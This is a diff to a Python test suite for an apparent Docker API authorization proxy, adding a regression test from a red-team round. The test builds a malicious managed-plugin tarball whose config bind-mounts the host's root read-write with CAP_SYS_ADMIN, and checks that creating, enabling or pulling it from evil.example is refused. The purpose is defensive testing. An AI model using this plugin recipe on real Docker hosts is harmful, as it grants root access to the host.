@@ -2,6 +2,7 @@
 private real dockerd (dockerd.py). Denials must reach the user as the CLI prints them
 ("Error response from daemon: portcullis: ..."), every body that cannot be inspected is refused
 (raw requests over mTLS), and what dockerd receives is what was checked."""
+import io
 import json
 import os
 import queue
@@ -10,11 +11,12 @@ import signal
 import socket
 import ssl
 import subprocess
+import tarfile
 import threading
 
 import pytest
 
-from dockerd import DOCKER, dockerd  # noqa: F401  (dockerd is a fixture)
+from dockerd import BUSYBOX, DOCKER, dockerd  # noqa: F401  (dockerd is a fixture)
 from harness import BIN, Pki, Proxy, client_tls_context, raw_exchange, tmpdir, wait_until
 
 INSPECT_LIMIT = 65536
@@ -46,6 +48,9 @@ policies:
       - name: readers-read
         from: {{ groups: [readers] }}
         docker: {{ actions: [read] }}
+      - name: admins-every-action
+        from: {{ groups: [admins] }}
+        docker: {{ actions: ["*"] }}
       - name: ops-run-official
         from: {{ groups: [ops] }}
         docker:
@@ -62,6 +67,7 @@ class Gateway:
         self.pki = Pki(self.dir)
         self.pki.client("reader", orgs=["readers"])
         self.pki.client("ops", orgs=["ops"])
+        self.pki.client("admin", orgs=["admins"])
         self.data = os.path.join(self.dir, "data")
         os.makedirs(self.data)
         with open(os.path.join(self.data, "greeting"), "w") as f:
@@ -647,6 +653,43 @@ def test_a_swarm_default_log_driver_needs_log_drivers_too(gw):
     local = json.dumps({"Name": "default", "TaskDefaults": {"LogDriver": {"Name": "json-file"}}}).encode()
     status, body = gw.raw(post("/v1.41/swarm/update?version=1", local))
     assert status == 503 and not body["message"].startswith("portcullis"), (status, body)
+
+
+def _plugin_tarball(marker):
+    """A managed plugin whose config.json binds the host's / and writes `marker` there when it runs."""
+    rootfs = {"bin/busybox": open(BUSYBOX, "rb").read()}
+    config = {"description": "rt", "documentation": "x", "interface": {"types": ["docker.volumedriver/1.0"],
+              "socket": "p.sock"}, "entrypoint": ["/bin/busybox", "sh", "-c", f"/bin/busybox touch /host{marker}"],
+              "network": {"type": "host"}, "linux": {"capabilities": ["CAP_SYS_ADMIN"]},
+              "mounts": [{"source": "/", "destination": "/host", "type": "bind", "options": ["rbind", "rw"]}]}
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as tar:
+        for name, data in [("config.json", json.dumps(config).encode())] + [("rootfs/" + k, v) for k, v in rootfs.items()]:
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), 0o755
+            tar.addfile(info, io.BytesIO(data))
+        for d in ("rootfs/host", "rootfs/run/docker/plugins"):
+            info = tarfile.TarInfo(d)
+            info.type, info.mode = tarfile.DIRTYPE, 0o755
+            tar.addfile(info)
+    return out.getvalue()
+
+
+def test_a_plugin_asks_for_its_own_privileges_so_installing_or_enabling_one_needs_plugins(gw):
+    """Third red-team round: a rule with actions ["*"] and no allow let /plugins/create take a
+    tarball whose config.json binds the host's / read-write, and /plugins/NAME/enable then ran its
+    entrypoint as root on the host."""
+    marker = os.path.join(gw.dir, "plugin-ran")
+    tar = _plugin_tarball(marker)
+    assert_refused(gw, post("/v1.41/plugins/create?name=rtplug:latest", tar, content_type="application/x-tar"),
+                   "plugin.create", "(add \"plugins\" to allow)", client="admin", early=True)
+    assert_refused(gw, post("/v1.41/plugins/rtplug:latest/enable?timeout=5", b"", content_type=None),
+                   "(add \"plugins\" to allow)", client="admin")
+    assert_refused(gw, post("/v1.41/plugins/pull?remote=evil.example/plug:1", b"[]"), "plugins", client="admin")
+    assert "rtplug" not in gw.daemon.cli("plugin", "ls").stdout
+    assert not os.path.exists(marker)
+    # What admins may still do with plugins: list them.
+    assert gw.docker("admin", "plugin", "ls")[0] == 0
 
 
 def test_form_fields_cannot_hide_behind_unicode_spaces_or_multipart(gw):
